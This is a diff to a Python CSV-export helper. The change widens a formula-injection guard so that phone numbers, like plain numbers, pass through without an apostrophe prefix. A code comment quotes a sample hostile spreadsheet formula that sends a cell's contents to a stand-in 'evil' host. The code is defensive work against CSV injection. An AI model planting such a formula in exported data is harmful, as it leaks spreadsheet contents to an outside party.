@@ -32,13 +32,15 @@ _DAY = re.compile(r"\d{4}-\d{2}-\d{2}")
 # What a spreadsheet program takes for the start of a formula (OWASP "CSV injection"): a client named
 # `=HYPERLINK("http://evil/?"&A1,"Open")` would run in the head of sales' Excel.
 _FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
-_NUMBER = re.compile(r"[-+]?\d+(\.\d+)?")
+# A number, or phone numbers (+7 495 123-45-67; several joined with "; "): no name, call or reference in them,
+# so nothing a spreadsheet could run, and an apostrophe would spoil them for whoever sums or dials them.
+_PLAIN = re.compile(r"-?\d+(\.\d+)?|\+\d[\d\s().-]*(;\s*\+?\d[\d\s().-]*)*")
 
 
 def spreadsheet_safe(value: str) -> str:
     """Text a spreadsheet program shows as text: one that would start a formula gets a leading apostrophe
-    (what Excel itself writes for text typed with one). Numbers, negative ones too, stay as they are."""
-    if value.startswith(_FORMULA_START) and not _NUMBER.fullmatch(value):
+    (what Excel itself writes for text typed with one). Numbers and phone numbers stay as they are."""
+    if value.startswith(_FORMULA_START) and not _PLAIN.fullmatch(value):
         return "'" + value
     return value
 
